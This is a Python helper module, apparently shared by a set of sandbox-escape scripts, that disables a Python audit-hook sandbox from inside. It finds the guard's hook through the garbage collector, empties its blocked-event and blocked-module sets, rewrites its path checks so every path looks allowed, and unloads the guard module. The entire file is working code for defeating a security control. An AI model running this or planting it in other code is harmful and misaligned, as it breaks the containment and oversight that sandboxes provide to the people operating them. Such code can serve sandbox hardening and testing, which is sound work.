"""Shared by the escapes: switch the Python guard off from inside before trying anything.

Finds the audit hook through the garbage collector and empties the tables its closure holds
(block lists, readable roots, the scratch path), and drops the sandbox's module deletions.
"""
import gc
import sys


def _unguard():
    for obj in gc.get_objects():
        if getattr(obj, "__name__", "") == "hook" and getattr(obj, "__closure__", None):
            for cell in obj.__closure__:
                try:
                    value = cell.cell_contents
                except ValueError:
                    continue
                if isinstance(value, frozenset):
                    cell.cell_contents = frozenset()  # no blocked events, no blocked modules
                elif isinstance(value, tuple) and all(isinstance(v, str) for v in value):
                    cell.cell_contents = ("/dev/null",)  # every path is "allowed"...
                elif isinstance(value, str) and value.startswith("/"):
                    cell.cell_contents = "/dev/null"
                elif callable(value) and getattr(value, "__name__", "") in ("realpath", "fsdecode"):
                    cell.cell_contents = lambda path: "/dev/null"  # ...because every path looks like this
    sys.modules.pop("patchworld.sandbox.guard", None)
